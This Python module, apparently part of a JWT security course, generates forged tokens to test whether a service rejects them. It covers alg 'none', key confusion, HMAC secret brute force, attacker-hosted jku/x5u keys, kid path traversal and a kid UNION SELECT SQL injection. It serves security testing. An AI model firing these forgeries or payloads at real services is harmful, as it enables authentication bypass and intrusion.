"""The attacks. Each gives requests that must be refused; ``Found``, for what needs no request; or a text that says why
it cannot tell.

While a check waits for the next request, the last one is sent. What has got in before is in ``known.found``.
"""

import base64
import hmac
import itertools
import json
import secrets
import string
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import NamedTuple

from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import rsa

from course.attack.knowledge import HASHES, LEEWAY, Knowledge, Token
from course.attack.own_keys import file_of, own_pair, pair_algorithm, server_of
from course.attack.target import Try
from course.token_parts import decode_part, encode_part

# What tutorials, templates and tired people write. Every short word of small letters is tried besides.
USUAL_SECRETS = (
    "secret", "your-secret-key", "your_secret_key", "your-256-bit-secret", "super-secret", "supersecret",
    "super_secret", "secret_key", "secret-key", "secretkey", "my_secret_key", "my-secret-key", "mysecretkey",
    "changeme", "change-me", "change_me", "changethis", "password", "passw0rd", "123456", "12345678", "qwerty",
    "letmein", "admin", "test", "testing", "jwt-secret", "jwt_secret", "jwtsecret", "JWT_SECRET_KEY", "SECRET_KEY",
    "development", "dev-secret", "default", "example", "token", "flask-secret", "django-insecure", "shhhhh",
    "a-string-secret-at-least-256-bits-long",
    # The key of FastAPI's tutorial: PUBLIC AND BURNT.
    "09d25e094faa6ca2556c818166b7a9563b93f7099f6f0f4caa6cf63b88e8d3e7",
    # The key of the article that this course grew out of: PUBLIC AND BURNT.
    "9b73f2a1bdd7ae163444473d29a6885ffa22ab26117068f72a5a56a74d12d1fc",
)  # fmt: skip
LONGEST_GUESS = 4  # letters of which every word is tried
NO_SIGNATURE = "the token without its signature"
# Whoever lets one of these in, verifies nothing, so that every forgery gets in.
ANY_SIGNATURE = (
    "the good token with one letter of its signature changed",
    "changed claims under the old signature",
)


@dataclass(frozen=True)
class Found:
    """Something is broken, and no further request is needed to know. ``trial`` shows it."""

    why: str
    trial: Try


Tries = Iterator[Try | Found | str]


def signature_not_verified(known: Knowledge) -> Tries:
    good = known.good
    first = "A" if good.signature[:1] != "A" else "B"
    yield Try(ANY_SIGNATURE[0], f"{good.head}.{good.body}.{first}{good.signature[1:]}")
    changed = encode_part(good.claims | {"changed": True})
    yield Try(ANY_SIGNATURE[1], f"{good.head}.{changed}.{good.signature}")
    yield Try(NO_SIGNATURE, f"{good.head}.{good.body}.")
    # 64, 96 and 132 are what ES256, ES384 and ES512 have: r = s = 0 was accepted by Java for years (CVE-2022-21449).
    for length in (1, 32, 64, 96, 132, 256):
        zeros = encode_part(bytes(length))
        yield Try(f"a signature of {length} zero bytes", f"{good.head}.{good.body}.{zeros}")


def alg_none(known: Knowledge) -> Tries:
    found = known.found.get("signature not verified")
    unsigned_gets_in = found is not None and found.label == NO_SIGNATURE
    if unsigned_gets_in:
        yield "without a signature, everything is let in, whatever its `alg`"
    for said, name in (
        ("`alg` none", "none"), ("`alg` None", "None"), ("`alg` NONE", "NONE"), ("`alg` nOnE", "nOnE"),
        ("`alg` that is empty", ""), ("`alg` null", None), ("no `alg`", ...),
    ):  # fmt: skip
        for suffix, header in known.headers(alg=name):
            if name is ...:
                del header["alg"]
            token = known.signing_input(header) + "."
            if not unsigned_gets_in:
                yield Try(f"{said}, without a signature{suffix}", token)
            yield Try(f"{said}, with the old signature{suffix}", token + known.good.signature)


def public_key_as_secret(known: Knowledge) -> Tries:
    if known.good.algorithm in HASHES:
        yield f"signed with {known.good.algorithm}: there is no public key"
        return
    if known.pem is None:
        yield "give the public key, which everybody has"
        return
    if not known.is_signed_with_the_public_key(known.good):
        yield "the public key that was given is not the one of the good token"
        return
    for spelling, secret in _spellings(known):
        for algorithm in HASHES:
            for suffix, header in known.headers(alg=algorithm):
                label = f"{algorithm} with the public key as secret ({spelling}){suffix}"
                yield Try(label, known.by_secret(header, secret))


def _spellings(known: Knowledge) -> Iterator[tuple[str, bytes]]:
    pem = known.pem.replace(b"\r\n", b"\n")
    yield "as it is", known.pem
    for name, spelled in (
        ("without the last line break", pem.rstrip(b"\n")),
        ("with one more", pem.rstrip(b"\n") + b"\n"),
        ("with the line breaks of Windows", pem.replace(b"\n", b"\r\n")),
    ):
        if spelled != known.pem:
            yield name, spelled
    key, form = known.public_key, serialization.PublicFormat
    der = key.public_bytes(serialization.Encoding.DER, form.SubjectPublicKeyInfo)
    yield "the text inside", base64.b64encode(der)
    yield "as DER", der
    if isinstance(key, rsa.RSAPublicKey):
        yield "as PKCS #1", key.public_bytes(serialization.Encoding.PEM, form.PKCS1)
    if b"CERTIFICATE" in pem:
        plain = key.public_bytes(serialization.Encoding.PEM, form.SubjectPublicKeyInfo)
        yield "out of the certificate", plain


def guessable_secret(known: Knowledge) -> Tries:
    good = known.good
    if good.algorithm not in HASHES:
        yield f"signed with {good.algorithm}: there is no secret to guess"
        return
    signed, digest = f"{good.head}.{good.body}".encode(), HASHES[good.algorithm]
    wanted = decode_part(good.signature)
    guessed = 0
    for secret in _guesses():
        guessed += 1
        if hmac.digest(secret, signed, digest) == wanted:
            word = secret.decode() or "nothing at all"
            # Needless to ask the service: with the secret, every token is genuine.
            token = known.by_secret(good.header, secret)
            yield Found(
                f"the secret was guessed, without asking: {word}",
                Try("a token signed with the secret that was guessed", token),
            )
            return
    yield f"the secret is not among {guessed:,} guesses, and others guess longer"


def _guesses() -> Iterator[bytes]:
    for word in USUAL_SECRETS:
        for start in dict.fromkeys((word, word.capitalize(), word.upper())):
            for end in ("", "1", "123", "!", "\n"):
                yield (start + end).encode()
    letters = string.ascii_lowercase.encode()
    for length in range(LONGEST_GUESS + 1):
        yield from map(bytes, itertools.product(letters, repeat=length))


def empty_key(known: Knowledge) -> Tries:
    kids = [("", {}), (", `kid` unknown", {"kid": "unknown"}), (", `kid` null", {"kid": None})]
    for algorithm in HASHES:
        for named, secret in (("an empty key", b""), ("a key of one zero byte", b"\0")):
            for said, change in kids:
                for suffix, header in known.headers(alg=algorithm, **change):
                    label = f"{algorithm} with {named}{said}{suffix}"
                    yield Try(label, known.by_secret(header, secret))


def key_in_the_header(known: Knowledge) -> Tries:
    own = pair_algorithm(known.good.algorithm)
    for algorithm in dict.fromkeys(filter(None, (own, "ES256", "RS256"))):
        pair = own_pair(algorithm)
        for member, value in (("jwk", pair.jwk), ("x5c", pair.x5c)):
            for suffix, header in known.headers(alg=algorithm, **{member: value}):
                label = f"{algorithm} with the attacker's key in `{member}`{suffix}"
                yield Try(label, known.by_pair(header))
    secret = secrets.token_bytes(32)
    jwk = {"kty": "oct", "k": encode_part(secret)}
    for suffix, header in known.headers(alg=known.hmac_algorithm, jwk=jwk):
        label = f"{header['alg']} with the attacker's secret in `jwk`{suffix}"
        yield Try(label, known.by_secret(header, secret))


def address_in_the_header(known: Knowledge) -> Tries:
    """Two faults: to ask an address that anybody may write there (SSRF), and to believe what it answers."""
    algorithm = pair_algorithm(known.good.algorithm) or "RS256"
    kids = [kid for kid in (known.good.header.get("kid"),) if isinstance(kid, str)] + ["own"]
    with server_of(own_pair(algorithm), kids) as (address, visits):
        # The second is for services that only look how an address begins.
        begins_well = f"{known.target.home}@{address.removeprefix('http://')}"
        for member, end in (("jku", ".json"), ("x5u", ".pem")):
            for kid, start in itertools.product(kids, (address, begins_well)):
                header = known.good.header | {"alg": algorithm, member: start + end, "kid": kid}
                said = "an address of the attacker's" + (
                    ", which begins like the service's own," if start is begins_well else ""
                )
                trial = Try(f"{algorithm} with {said} in `{member}`", known.by_pair(header))
                yield trial
                if visits:
                    yield Found(f"asks {said} that the token names in `{member}`", trial)


def kid_as_a_path(known: Knowledge) -> Tries:
    algorithm = known.hmac_algorithm
    # Where an empty key is let in anyway, this would say nothing.
    if "empty key" not in known.found:
        for ups in (0, 3, 6, 9):
            kid = "../" * ups + ("dev/null" if ups else "/dev/null")
            header = known.good.header | {"alg": algorithm, "kid": kid}
            yield Try(f"`kid` {kid}, an empty file", known.by_secret(header, b""))
    if known.file is not None:
        yield from _public_file_as_key(known, algorithm)
    secret = secrets.token_hex(32)
    with file_of(secret) as kids:
        for kid, (read, key) in itertools.product(kids, _readings(secret)):
            header = known.good.header | {"alg": algorithm, "kid": kid}
            label = f"`kid` with the path of a file of the attacker's{read}"
            yield Try(label, known.by_secret(header, key))
    if own := pair_algorithm(known.good.algorithm):
        with file_of(own_pair(own).pem) as kids:
            for kid in kids:
                header = known.good.header | {"alg": own, "kid": kid}
                label = "`kid` with the path of a public key of the attacker's"
                yield Try(label, known.by_pair(header))


def _public_file_as_key(known: Knowledge, algorithm: str) -> Tries:
    content = known.file_content
    if not content:
        yield f"{known.file} cannot be had, or is empty"
        return
    names = dict.fromkeys([known.file.lstrip("/"), known.file.rpartition("/")[2]])
    for name, ups, key in itertools.product(
        names, range(5), dict.fromkeys([content, content.strip()])
    ):
        kid = "../" * ups + name
        header = known.good.header | {"alg": algorithm, "kid": kid}
        yield Try(f"`kid` {kid}, a file that everybody has", known.by_secret(header, key))


def _readings(secret: str) -> list[tuple[str, bytes]]:
    """What a service may make of a secret that is both hexadecimal and base64."""
    return [
        ("", secret.encode()),
        (", read as hexadecimal", bytes.fromhex(secret)),
        (", read as base64", base64.b64decode(secret)),
    ]


def kid_in_a_query(known: Knowledge) -> Tries:
    """The attacker writes the answer of the database himself: a key of his own."""
    secret, algorithm = secrets.token_hex(32), known.hmac_algorithm
    for shown, kid in _injections(secret):
        for read, key in _readings(secret):
            header = known.good.header | {"alg": algorithm, "kid": kid}
            yield Try(f"`kid` {shown}{read}", known.by_secret(header, key))
    if own := pair_algorithm(known.good.algorithm):
        for shown, kid in _injections(own_pair(own).pem):
            header = known.good.header | {"alg": own, "kid": kid}
            yield Try(f"`kid` {shown}, a public key", known.by_pair(header))


def _injections(key: str) -> Iterator[tuple[str, str]]:
    """How to show it, and the text itself, for each quotation mark and number of columns."""
    for quote, columns in itertools.product(("'", '"', ""), (1, 2, 3)):
        # Text is in single quotation marks in every database.
        values = ["'KEY'"] * columns
        ends = [f"{', '.join(values)} -- "]
        if quote:
            # Without a comment: the query's own quotation mark ends the last value.
            ends.append(", ".join([*values[1:], f"{quote}KEY"]))
        for end in ends:
            shown = f"x{quote} UNION SELECT {end}"
            yield shown, shown.replace("KEY", key)


def another_kind(known: Knowledge) -> Tries:
    if known.other is None:
        yield "give another genuine token of the same issuer, such as an ID token"
        return
    left = known.other.seconds_left
    if left is not None and left <= 0:
        yield "the other token has expired: that it is refused says nothing"
        return
    if _is_of_another_key(known, known.other):
        yield "the other token is not signed with the public key: that it is refused says nothing"
        return
    yield Try("a genuine token that is meant for something else", known.other.text)


def expired_token(known: Knowledge) -> Tries:
    old = known.expired
    if old is None:
        yield "give a genuine token that has expired"
        return
    left = old.seconds_left
    if left is None or left > 0:
        yield "the token that was given as expired has not expired"
        return
    different = [
        f"`{name}`" for ours, theirs, names in (
            (known.good.header, old.header, ("alg", "typ", "kid")), (known.good.claims, old.claims, ("iss", "aud")),
        ) for name in names if ours.get(name) != theirs.get(name)
    ]  # fmt: skip
    if different:
        yield f"it differs from the good token in {', '.join(different)} too: that it is refused says nothing"
        return
    if _is_of_another_key(known, old):
        yield "the expired token is not signed with the public key: that it is refused says nothing"
        return
    minutes = LEEWAY // 60
    doubt = (
        f"let in less than {minutes} minutes after its end, which may be leeway: try it again later"
    )
    yield Try("a token that has expired", old.text, doubt=doubt if -left < LEEWAY else "")


def _is_of_another_key(known: Knowledge, token: Token) -> bool:
    if known.public_key is None or token.algorithm in HASHES:
        return False
    return not known.is_signed_with_the_public_key(token)


def token_in_the_address(known: Knowledge) -> Tries:
    for name in ("access_token", "token", "jwt", "id_token"):
        label = f"the token in the address, as `{name}`: it stands in every log"
        yield Try(label, known.good.text, parameter=name)


def crash_on_odd_input(known: Knowledge) -> Tries:
    """Whatever comes, a refusal is no accident."""
    good = known.good
    for what, header in _odd_headers(good.algorithm):
        head = encode_part(header if isinstance(header, bytes) else json.dumps(header).encode())
        yield Try(what, f"{head}.{good.body}.{good.signature}")
    for what, body in (
        ("a payload that is a list", b'["sub"]'), ("a payload that is no JSON", b"{"),
        ("a payload that is no UTF-8", b"\xff\xfe"), ("a payload nested deeply", b"[" * 3_000),
    ):  # fmt: skip
        yield Try(what, f"{good.head}.{encode_part(body)}.{good.signature}")
    for what, token in (
        ("two parts", "a.b"), ("four parts", "a.b.c.d"), ("five parts", f"{good.text}..a"),
        ("dots alone", ".."), ("no base64", "%%%.%%%.%%%"), ("not ASCII", "é.è.ê"), ("one letter", "x"),
    ):  # fmt: skip
        yield Try(what, token)
    for header in (
        "", "Bearer", "Bearer ", ", ,", "Bearer a b", "Bearer a.b.c, Bearer a.b.c", "Bearer, Bearer", "Basic",
        "Basic !!!", "\x01", "é",
    ):  # fmt: skip
        yield Try(f"the header Authorization: {header!a}", None, header=header)


def _odd_headers(algorithm: str) -> Iterator[tuple[str, dict | bytes]]:
    alg = {"alg": algorithm}
    for value in (None, [], ["a"], {}, 7, True, "x" * 2_000, "\ud800", "\0", "'", '"', "a/b"):
        yield f"`kid` {json.dumps(value)[:20]}", alg | {"kid": value}
        yield f"`alg` {json.dumps(value)[:20]}", {"alg": value}
    yield "no `alg`", {}
    yield "`typ` that is a list", alg | {"typ": []}
    yield "`typ` that is a number", alg | {"typ": 7}
    yield "`crit` that nobody knows", alg | {"crit": ["x"], "x": 1}
    yield "`crit` that is a number", alg | {"crit": 7}
    for value in (None, [], {}, "x", {"kty": "EC"}, {"kty": []}, {"kty": "oct", "k": 7}):
        yield f"`jwk` {json.dumps(value)}", alg | {"jwk": value}
    for value in (7, "x", "http://["):
        yield f"`jku` {json.dumps(value)}", alg | {"jku": value}
    yield "`x5c` that is a number", alg | {"x5c": 7}
    yield from (
        ("a header that is a list", b"[]"), ("a header that is a text", b'"alg"'), ("a header that is null", b"null"),
        ("a header that is no JSON", b"{"), ("a header that is no UTF-8", b"\xff"), ("an empty header", b""),
    )  # fmt: skip
    # How deep is too deep, depends on the version of Python.
    for depth in (3_000, 10_000):
        yield f"a header nested {depth:,} deep", b'{"alg":"HS256","x":' + b"[" * depth


class Check(NamedTuple):
    """A line of the checklist. ``forges``: what it sends must be refused for its signature alone."""

    section: str
    name: str
    tries: Callable[[Knowledge], Tries]
    forges: bool = True


CHECKS = (
    Check("8725 §3.3", "signature not verified", signature_not_verified),
    Check("8725 §3.2", "alg none", alg_none),
    Check("8725 §3.1", "public key as secret", public_key_as_secret),
    Check("8725 §3.5", "guessable secret", guessable_secret, forges=False),
    Check("8725 §3.5", "empty key", empty_key),
    Check("8725 §3.8", "key in the header", key_in_the_header),
    Check("8725 §3.10", "address in the header", address_in_the_header),
    Check("8725 §3.10", "kid as a path", kid_as_a_path),
    Check("8725 §3.10", "kid in a query", kid_in_a_query),
    Check("8725 §3.12", "another kind of token", another_kind, forges=False),
    Check("7519 §4.1.4", "expired token", expired_token, forges=False),
    Check("6750 §2.3", "token in the address", token_in_the_address, forges=False),
    Check("9110 §15.6", "crash on odd input", crash_on_odd_input, forges=False),
)
